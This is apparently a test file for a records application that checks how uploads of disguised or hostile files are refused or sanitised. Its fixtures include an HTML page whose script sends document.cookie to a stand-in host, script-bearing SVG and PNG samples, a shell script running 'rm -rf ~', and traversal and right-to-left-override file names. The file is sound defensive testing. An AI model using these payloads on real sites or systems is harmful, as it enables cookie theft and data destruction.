import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { MAX_ATTACHMENT_BYTES } from '../../src-main/contract/attachments';
import type { Envelope } from '../../src-main/contract/errors';
import { fingerprint } from '../helpers/fingerprint';
import { hostileFileName } from '../helpers/hostile-values';
import type { TestConnection, TestCore } from '../helpers/temp-core';
import { openTestCore, tempDir } from '../helpers/temp-core';

/*
 * Files a record or a plan's evidence is given by someone who means harm, or by mistake: a page or
 * a program renamed to look like a PDF or a photo, an image with a script after its header, a file
 * just over the limit, names with paths, hidden characters and device names. What is refused leaves
 * the installation as it was; what is taken keeps the type its bytes have and a name safe to save.
 */

let dir: { path: string; cleanup(): void };
let core: TestCore;
let director: TestConnection;
let child: string;
let action: string;

beforeAll(async () => {
  dir = tempDir('korpu-hostile-files-');
  core = await openTestCore(dir.path);
  director = await core.setUp();
  const record = await director.call('residents.create', {
    identity: { surname: 'Əliyev', firstName: 'Kamran', patronymic: 'Rəşid oğlu', sex: 'male', birthDate: '2015-03-14' },
    legal: { legalStatusCode: 'orphan', deprivationReasonCodes: [] },
    admission: { admissionDate: '2024-09-02', basisBodyCode: 'court', reasonCodes: ['poverty'], sourceCode: 'family' },
  });
  child = record.id;
  const draft = await director.call('transformation.create', { title: 'Transformasiya planı', periodStart: '2027-01-01', periodEnd: '2029-12-31', targetModelCodes: ['day_care_centre'] });
  const plan = await director.call('transformation.approve', { id: draft.id, version: draft.version });
  action = plan.phases.flatMap((phase) => phase.actions)[0]!.id;
}, 60_000);

afterAll(() => {
  core.close();
  dir.cleanup();
});

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** The two ways a file enters: a record's files and a plan action's evidence. */
const targets = {
  'a record': (fileName: string, content: Buffer) =>
    director.invoke('attachments.add', { residentId: child, kind: 'document', fileName, contentBase64: content.toString('base64') }),
  'an action’s evidence': (fileName: string, content: Buffer) =>
    director.invoke('transformation.addEvidenceFile', { actionId: action, fileName, description: null, contentBase64: content.toString('base64') }),
};
type Target = keyof typeof targets;
const targetNames = Object.keys(targets) as Target[];

function codeOf(envelope: Envelope<unknown>): string | null {
  return envelope.ok ? null : envelope.error.code;
}

type StoredFile = { id: string; fileName: string; mimeType: string; size: number };
type PlanFiles = { phases: { actions: { id: string; files: StoredFile[] }[] }[] };
/** Evidence files seen so far: the plan answers with all of them, the new one is the one not seen. */
const seenEvidence = new Set<string>();

/** The file as stored, from what the procedure answered. */
function storedFile(target: Target, envelope: Envelope<unknown>): StoredFile {
  expect(envelope.ok).toBe(true);
  const value = envelope.ok ? envelope.value : null;
  if (target === 'a record') {
    return value as StoredFile;
  }
  const files = (value as PlanFiles).phases.flatMap((phase) => phase.actions).find((each) => each.id === action)!.files;
  const added = files.filter((file) => !seenEvidence.has(file.id));
  expect(added).toHaveLength(1);
  seenEvidence.add(added[0]!.id);
  return added[0]!;
}

const disguised: [string, string, Buffer][] = [
  ['an HTML page', 'qərar.pdf', Buffer.from('<!DOCTYPE html><html><body><script>fetch("https://x.example/?"+document.cookie)</script>')],
  ['an SVG image with a script', 'şəkil.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>')],
  ['a Windows program', 'foto.jpg', Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00', 'latin1'), Buffer.alloc(58), Buffer.from('This program cannot be run in DOS mode')])],
  ['a shell script', 'skan.pdf', Buffer.from('#!/bin/sh\nrm -rf ~\n')],
  ['a PDF header after a byte-order mark', 'hesabat.pdf', Buffer.from('\uFEFF%PDF-1.7\n%%EOF\n')],
];

describe.each(targetNames)('a file given to %s', (target) => {
  it.each(disguised)('is refused when it is %s named %s, and nothing is stored', async (_what, fileName, content) => {
    const before = fingerprint(core);
    expect(codeOf(await targets[target](fileName, content))).toBe('FILE_TYPE_NOT_ALLOWED');
    expect(fingerprint(core)).toEqual(before);
  });

  it('that starts like a PNG and carries a script is kept as the image its bytes say, never as a page', async () => {
    const content = Buffer.concat([PNG_SIGNATURE, Buffer.from('<script>alert(document.domain)</script>')]);
    const file = storedFile(target, await targets[target]('səhifə.html', content));
    expect(file).toMatchObject({ fileName: 'səhifə.html.png', mimeType: 'image/png' });
    const fetched = target === 'a record' ? await director.call('attachments.get', { id: file.id }) : await director.call('transformation.getEvidenceFile', { id: file.id });
    expect(fetched).toMatchObject({ contentBase64: content.toString('base64') });
  });

  it('is refused in its encoded form one character past the limit, before it is decoded', async () => {
    const before = fingerprint(core);
    const longest = Math.ceil((MAX_ATTACHMENT_BYTES * 4) / 3) + 8;
    const invoke = target === 'a record' ? 'attachments.add' : 'transformation.addEvidenceFile';
    const where = target === 'a record' ? { residentId: child, kind: 'document' } : { actionId: action, description: null };
    const reply = await director.invoke(invoke, { ...where, fileName: 'böyük.pdf', contentBase64: `JVBERi0x${'A'.repeat(longest - 7)}` });
    expect(reply).toMatchObject({ ok: false, error: { code: 'VALIDATION_FAILED', details: { issues: [{ path: 'contentBase64', message: 'validation.fileTooLarge' }] } } });
    expect(fingerprint(core)).toEqual(before);
  });
});

describe('names of files', () => {
  const png = Buffer.concat([PNG_SIGNATURE, Buffer.from('IHDR')]);

  it.each([
    ['a Windows device name', 'CON.pdf', '_CON.png'],
    ['a device name at the end of a path', '..\\..\\NUL', '_NUL.png'],
    ['half a character (which the database would store as another)', 'ş\uD800əkil\uDC00.png', 'şəkil.png'],
    ['a right-to-left override hiding the real extension', 'qəbz\u202Egnp.exe', 'qəbzgnp.exe.png'],
  ])('turn %s into a name that is saved and listed as shown', async (_what, name, expected) => {
    const added = storedFile('a record', await targets['a record'](name, png));
    expect(added.fileName).toBe(expected);
    const listed = await director.call('attachments.list', { residentId: child });
    expect(listed.find((file) => file.id === added.id)?.fileName).toBe(expected);
  });

  it('are made safe to save on any system, and the name shown after adding is the one listed later', async () => {
    const accepted = hostileFileName.filter((name) => name.trim().length > 0 && name.trim().length <= 255);
    await fc.assert(
      fc.asyncProperty(accepted, async (name) => {
        const added = storedFile('a record', await targets['a record'](name, png));
        expect(added.fileName).not.toMatch(/[/\\<>:"|?*\p{Cc}\p{Cf}\p{Cs}]|^[.\s]/u);
        expect(added.fileName).toMatch(/\.png$/i);
        expect(added.fileName.split('.')[0]!.trimEnd()).not.toMatch(/^(con|prn|aux|nul|com\d|lpt\d)$/i);
        const listed = await director.call('attachments.list', { residentId: child });
        expect(listed.find((file) => file.id === added.id)?.fileName).toBe(added.fileName);
      }),
      { numRuns: 30 },
    );
  });
});

describe('the size limit of evidence files', () => {
  it('takes a file of exactly 20 MB and refuses one a byte larger, storing nothing', async () => {
    const pdfOfSize = (size: number): Buffer => {
      const content = Buffer.alloc(size, 0x20);
      content.write('%PDF-1.4\n', 'latin1');
      return content;
    };
    const before = fingerprint(core, false);
    expect(codeOf(await targets['an action’s evidence']('böyük.pdf', pdfOfSize(MAX_ATTACHMENT_BYTES + 1)))).toBe('FILE_TOO_LARGE');
    expect(fingerprint(core, false)).toEqual(before);
    const largest = storedFile('an action’s evidence', await targets['an action’s evidence']('ən böyük.pdf', pdfOfSize(MAX_ATTACHMENT_BYTES)));
    expect(largest).toMatchObject({ fileName: 'ən böyük.pdf', mimeType: 'application/pdf', size: MAX_ATTACHMENT_BYTES });
  }, 60_000);
});
